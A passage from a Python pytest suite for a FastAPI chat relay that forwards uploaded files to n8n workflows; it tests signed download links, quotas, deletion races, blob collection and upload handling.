    assert form["sessionId"] == str(setup.chat.id)
    assert form["chatInput"] == "read these"
    metadata = json.loads(form["metadata"])
    assert metadata["chat_id"] == str(setup.chat.id)
    assert [f["id"] for f in metadata["files"]] == [one["id"], two["id"]]
    assert json.loads(form["messages"])[-1] == {"role": "user", "content": "read these"}
    assert form["system_prompt"] == "be brief"
    assert json.loads(form["config"]) == {"model": "gpt-4"}
    parts = [p for p in request["parts"] if p["name"] == "files"]
    assert [(p["filename"], p["content_type"], p["sha256"]) for p in parts] == [
        ("ré.png", "image/png", one["sha256"]),
        ("t.csv", "text/csv", two["sha256"]),
    ]
    assert [p["name"] for p in request["parts"]][:4] == ["action", "sessionId", "chatInput", "metadata"]


async def test_a_send_without_files_stays_json_and_touches_no_file_table(
    app: FastAPI,
    client: httpx.AsyncClient,
    session: AsyncSession,
    setup: ChatSetup,
    fake: FakeN8n,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    await agent_mode(session, setup, "multipart")
    statements: list[str] = []
    engine = app_state(app).db.engine.sync_engine

    def record(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
        statements.append(statement)

    real_fetch = Database.fetch_direct

    async def fetch(self: Database, direct: Direct, params: dict[str, Any]) -> Any:
        statements.append(direct.sql)  # the statements run on asyncpg directly (the start, the final write)
        return await real_fetch(self, direct, params)

    monkeypatch.setattr(Database, "fetch_direct", fetch)

    event.listen(engine, "before_cursor_execute", record)
    try:
        response = await send(client, setup, {"content": "no files"})
        assert events_of(response)[-1]["type"] == "done"
    finally:
        event.remove(engine, "before_cursor_execute", record)
    assert statements  # the send did run its statements
    touching = re.compile(r"\b(?:FROM|JOIN|UPDATE|INTO)\s+(?:files|file_blobs)\b", re.IGNORECASE)
    assert not [s for s in statements if touching.search(s)]
    assert fake.requests[-1]["json"]["chatInput"] == "no files"
    assert "files" not in fake.requests[-1]["json"]


# --- signed links (url delivery) ----------------------------------------------------------------------------


def signed_path(url: str) -> str:
    return url[url.index(files_service.PATH_PREFIX) :]


@pytest.mark.settings(PUBLIC_BASE_URL="http://relay.test")
async def test_url_delivery_sends_signed_links_that_only_open_their_file(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings, setup: ChatSetup, fake: FakeN8n
) -> None:
    mine = await uploaded(client, setup, b"for the workflow", filename="w.txt", content_type="text/plain")
    unsent = await uploaded(client, setup, b"not sent", content_type="text/plain")
    response = await send(client, setup, {"content": "fetch it", "file_ids": [mine["id"]]})
    assert events_of(response)[-1]["type"] == "done"
    [entry] = fake.requests[-1]["json"]["files"]
    assert set(entry) == {"id", "filename", "mimeType", "size", "url"}
    assert entry["url"].startswith("http://relay.test/api/files/signed/")
    path = signed_path(entry["url"])
    got = await client.get(path)  # no credentials: the signature is the credential
    assert got.status_code == 200
    assert got.content == b"for the workflow"
    assert got.headers["content-security-policy"] == "default-src 'none'; sandbox"
    generation, file_id, signature = path.removeprefix(files_service.PATH_PREFIX).split("/")
    forged = signature[:-2] + ("AA" if not signature.endswith("AA") else "BB")
    assert (await client.get(f"{files_service.PATH_PREFIX}{generation}/{file_id}/{forged}")).status_code == 404
    # The signature of one file does not open another, not even of the same chat.
    assert (await client.get(f"{files_service.PATH_PREFIX}{generation}/{unsent['id']}/{signature}")).status_code == 404
    assert (await client.get(f"{files_service.PATH_PREFIX}not-a-uuid/{file_id}/{signature}")).status_code == 404
    # Correctly signed (with the server's key) but the file is another chat's, or another team's: 404.
    other_chat = await create_chat(session, user=setup.user, agent=setup.agent)
    theirs = await uploaded(client, ChatSetup(setup.user, setup.agent, other_chat, setup.headers), b"other chat")
    stranger = await chat_with_agent(session, settings, setup.agent.webhook_url)
    foreign = await uploaded(client, stranger, b"other team")
    for other in (theirs, foreign):
        valid = files_service.signed_url(settings, generation, other["id"])
        assert (await client.get(signed_path(valid))).status_code == 404


@pytest.mark.settings(PUBLIC_BASE_URL="http://relay.test", FILE_URL_GRACE_SECONDS=1)
async def test_signed_link_expires_when_its_generation_has_ended(
    client: httpx.AsyncClient, setup: ChatSetup, fake: FakeN8n
) -> None:
    mine = await uploaded(client, setup, b"short-lived")
    response = await send(client, setup, {"content": "x", "file_ids": [mine["id"]]})
    assert events_of(response)[-1]["type"] == "done"
    path = signed_path(fake.requests[-1]["json"]["files"][0]["url"])
    assert (await client.get(path)).status_code == 200  # within the grace after the end
    await asyncio.sleep(1.1)
    assert (await client.get(path)).status_code == 404
    # Rating the answer afterwards does not bring the link back.
    answer = events_of(response)[-1]["data"]["message"]["id"]
    rated = await client.put(
        f"/api/chats/{setup.chat.id}/messages/{answer}/feedback", json={"rating": 1}, headers=setup.headers
    )
    assert rated.status_code == 200, rated.text
    assert (await client.get(path)).status_code == 404


async def set_quota(session: AsyncSession, setup: ChatSetup, value: int) -> None:
    team = await session.get(Team, setup.user.team_id)
    assert team is not None
    team.settings = {**(team.settings or {}), "quota": {"messages_per_user_per_day": value}}
    await session.commit()


async def test_a_send_refused_by_the_quota_leaves_its_files_unsent(
    app: FastAPI, client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup
) -> None:
    await set_quota(session, setup, 1)
    assert (await send(client, setup, {"content": "the day's one"})).status_code == 200
    mine = await uploaded(client, setup, b"kept for tomorrow")
    refused = await send(client, setup, {"content": "with a file", "file_ids": [mine["id"]]})
    assert refused.status_code == 429
    assert all(f.message_id is None for f in await file_rows(app))
    deleted = await client.delete(f"{url_of(setup)}/{mine['id']}", headers=setup.headers)
    assert deleted.status_code == 204


@pytest.mark.parametrize("path", ["general", "one statement"])
async def test_a_chat_deleted_under_a_send_is_404_and_gives_the_quota_claim_back(
    app: FastAPI,
    client: httpx.AsyncClient,
    session: AsyncSession,
    setup: ChatSetup,
    monkeypatch: pytest.MonkeyPatch,
    path: str,
) -> None:
    """The chat goes between the quota claim and the insert (simulated on the insert's own connection): the
    send's foreign key fails, which is a 404 (not the 409 of a running generation), and the claim is returned.
    On the one-statement path (app.services.fast_start) the chat goes just before its statement: the statement
    stores and claims nothing, and the general path answers 404."""
    await set_quota(session, setup, 1)
    engine = app_state(app).db.engine.sync_engine
    if path == "general":
        monkeypatch.setattr(fast_start, "applies", lambda *_a, **_k: False)

    done: list[bool] = []

    def delete_chat_first(_conn: Any, cursor: Any, statement: str, *_args: Any) -> None:
        if not done and statement.lstrip().upper().startswith("INSERT INTO MESSAGES"):
            done.append(True)
            cursor.execute(f"DELETE FROM chats WHERE id = '{setup.chat.id}'")

    real_fetch = Database.fetch_direct

    async def delete_then_fetch(self: Database, direct: Direct, params: dict[str, Any]) -> Any:
        if not done and direct is fast_start.START_DIRECT:
            done.append(True)
            async with self.sessionmaker() as s:
                await s.execute(text("DELETE FROM chats WHERE id = :id"), {"id": setup.chat.id})
                await s.commit()
        return await real_fetch(self, direct, params)

    monkeypatch.setattr(Database, "fetch_direct", delete_then_fetch)
    event.listen(engine, "before_cursor_execute", delete_chat_first)
    try:
        refused = await send(client, setup, {"content": "into a chat that goes"})
    finally:
        event.remove(engine, "before_cursor_execute", delete_chat_first)
    assert done
    assert refused.status_code == 404, refused.text
    other = await create_chat(session, user=setup.user, agent=setup.agent)
    again = ChatSetup(setup.user, setup.agent, other, setup.headers)
    assert (await send(client, again, {"content": "the day's one"})).status_code == 200


async def test_a_send_refused_for_its_files_gives_its_quota_claim_back(
    client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup
) -> None:
    await set_quota(session, setup, 1)
    refused = await send(client, setup, {"content": "a foreign file", "file_ids": [str(uuid.uuid4())]})
    assert refused.status_code == 422
    assert await count_rows(session, "messages") == 0
    assert (await send(client, setup, {"content": "the day's one"})).status_code == 200
    assert (await send(client, setup, {"content": "one too many"})).status_code == 429


@pytest.mark.slow
async def test_a_workflow_fetches_the_file_url_while_the_generation_runs(
    session: AsyncSession, database_url: str, tmp_path: Path, fake: FakeN8n
) -> None:
    """Live: the fake n8n downloads `files[0].url` over HTTP (as an HTTP Request node would) before answering."""
    port = free_port()
    settings = live_settings(database_url, tmp_path, PUBLIC_BASE_URL=f"http://127.0.0.1:{port}")
    server = LiveServer(settings, port=port)
    await server.start()
    try:
        setup = await chat_with_agent(session, settings, fake.url + "/webhook/agent-stream?scenario=fetch_files")
        async with httpx.AsyncClient(base_url=server.url, timeout=10) as client:
            sent = await uploaded(client, setup, PNG, filename="chart.png", content_type="image/png")
            response = await send(client, setup, {"content": "describe", "file_ids": [sent["id"]]})
        assert events_of(response)[-1]["type"] == "done"
        [fetched] = fake.fetched
        assert fetched["status"] == 200
        assert fetched["sha256"] == sent["sha256"]
        assert fetched["headers"]["Content-Type"] == "image/png"
        assert fetched["headers"]["X-Content-Type-Options"] == "nosniff"
    finally:
        await server.stop()


# --- deletion --------------------------------------------------------------------------------------------


async def test_deleting_a_chat_deletes_its_files_and_the_bytes_no_one_else_uses(
    app: FastAPI, client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup
) -> None:
    other_chat = await create_chat(session, user=setup.user, agent=setup.agent)
    other = ChatSetup(setup.user, setup.agent, other_chat, setup.headers)
    only_here = await uploaded(client, setup, b"only in the deleted chat")
    await uploaded(client, setup, b"in both chats")
    await uploaded(client, other, b"in both chats")
    assert await count_rows(session, "file_blobs") == 2
    assert (await client.delete(f"/api/chats/{setup.chat.id}", headers=setup.headers)).status_code == 204
    rows = await file_rows(app)
    assert [r.chat_id for r in rows] == [other_chat.id]
    async with app_state(app).db.sessionmaker() as s:
        hashes = set((await s.execute(select(FileBlob.sha256))).scalars())
    assert hashes == {hashlib.sha256(b"in both chats").hexdigest()}
    assert only_here["sha256"] not in hashes


async def test_collecting_keeps_bytes_used_meanwhile_and_still_removes_the_others(
    app: FastAPI, client: httpx.AsyncClient, database_url: str, setup: ChatSetup
) -> None:
    """Two unused blobs; while the collector runs, another transaction makes one of them used again (it had
    not committed when the collector looked). That one stays; the other still goes."""
    gone = await uploaded(client, setup, b"nobody uses me")
    reused = await uploaded(client, setup, b"uploaded again meanwhile")
    async with app_state(app).db.sessionmaker() as s:
        await s.execute(delete(File))  # both blobs unused now
        await s.commit()
    other = await asyncpg.connect(database_url.replace("postgresql+asyncpg://", "postgresql://"))
    try:
        writing = other.transaction()
        await writing.start()
        await other.execute(
            "INSERT INTO files (id, chat_id, team_id, user_id, filename, content_type, size, sha256, created_at)"
            " VALUES ($1, $2, $3, $4, 'again.txt', 'text/plain', 1, $5, now())",
            uuid.uuid4(), setup.chat.id, setup.user.team_id, setup.user.id, reused["sha256"],
        )  # fmt: skip
        async with app_state(app).db.sessionmaker() as s:
            collecting = asyncio.create_task(blobs.collect_blobs(s, [reused["sha256"], gone["sha256"]]))
            await asyncio.sleep(0.3)  # the collector waits on the uncommitted reference
            await writing.commit()
            await asyncio.wait_for(collecting, 10)
    finally:
        await other.close()
    async with app_state(app).db.sessionmaker() as s:
        hashes = set((await s.execute(select(FileBlob.sha256))).scalars())
    assert hashes == {reused["sha256"]}


async def test_delete_an_unsent_upload_but_not_a_sent_one_nor_anyone_elses(
    app: FastAPI, client: httpx.AsyncClient, session: AsyncSession, settings: Settings, setup: ChatSetup, fake: FakeN8n
) -> None:
    unsent = await uploaded(client, setup, b"draft")
    sent = await uploaded(client, setup, b"sent one")
    assert events_of(await send(client, setup, {"content": "x", "file_ids": [sent["id"]]}))[-1]["type"] == "done"
    stranger = await chat_with_agent(session, settings, setup.agent.webhook_url)
    assert (await client.delete(f"{url_of(setup)}/{unsent['id']}", headers=stranger.headers)).status_code == 404
    refused = await client.delete(f"{url_of(setup)}/{sent['id']}", headers=setup.headers)
    assert refused.status_code == 409
    assert refused.json() == {"detail": files_service.FILE_SENT}
    assert (await client.delete(f"{url_of(setup)}/{unsent['id']}", headers=setup.headers)).status_code == 204
    assert (await client.get(f"{url_of(setup)}/{unsent['id']}", headers=setup.headers)).status_code == 404
    assert [str(f.id) for f in await file_rows(app)] == [sent["id"]]
    assert await count_rows(session, "file_blobs") == 1
    assert len(fake.requests) == 1


async def test_same_content_is_stored_once(client: httpx.AsyncClient, session: AsyncSession, setup: ChatSetup) -> None:
    a = await uploaded(client, setup, b"twice", filename="a.txt")
    b = await uploaded(client, setup, b"twice", filename="b.txt")
    assert a["id"] != b["id"]
    assert a["sha256"] == b["sha256"]
    assert await count_rows(session, "files") == 2
    assert await count_rows(session, "file_blobs") == 1


# --- the agent field ------------------------------------------------------------------------------------


async def test_agent_file_delivery_is_validated_and_shown_to_admins_only(
    client: httpx.AsyncClient, session: AsyncSession, settings: Settings
) -> None:
    from tests.factories import create_admin

    admin = await create_admin(session)
    headers = auth_headers(settings, admin)
    base = {"name": "Files", "webhook_url": "http://127.0.0.1:5678/webhook/agent-stream"}
    created = await client.post("/api/agents", json=base, headers=headers)
    assert created.status_code == 201
    assert created.json()["file_delivery"] == "url"
    agent_id = created.json()["id"]
    assert (await client.post("/api/agents", json={**base, "file_delivery": "ftp"}, headers=headers)).status_code == 422
    patched = await client.put(f"/api/agents/{agent_id}", json={"file_delivery": "multipart"}, headers=headers)
    assert patched.json()["file_delivery"] == "multipart"
    assert (
        await client.put(f"/api/agents/{agent_id}", json={"file_delivery": None}, headers=headers)
    ).status_code == 422
    member = await create_user(session, team=await session.get(Team, admin.team_id))
    seen = await client.get(f"/api/agents/{agent_id}", headers=auth_headers(settings, member))
    assert "file_delivery" not in seen.json()


async def test_a_client_gone_mid_upload_is_a_400_and_stores_nothing(app: FastAPI, setup: ChatSetup) -> None:
    """Raw ASGI: the body's first chunk, then the client disconnects."""
    head = b'--b\r\nContent-Disposition: form-data; name="file"; filename="cut.txt"\r\n\r\npartial'
    headers = {**setup.headers, "Content-Type": "multipart/form-data; boundary=b"}
    sent = await cut_off_request(app, url_of(setup), headers, head)
    assert sent[0]["status"] == 400
    assert json.loads(sent[1]["body"]) == {"detail": "The upload was interrupted"}
    assert await file_rows(app) == []
